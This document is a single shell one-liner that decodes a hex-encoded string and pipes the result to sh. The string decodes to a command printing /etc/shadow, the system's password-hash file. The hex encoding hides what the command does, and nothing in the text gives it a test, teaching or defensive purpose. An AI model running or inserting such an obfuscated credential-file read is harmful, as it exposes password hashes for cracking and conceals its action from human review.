echo "636174202f6574632f736861646f77" | perl -pe 's/([0-9a-f]{2})/chr hex $1/ge' | sh
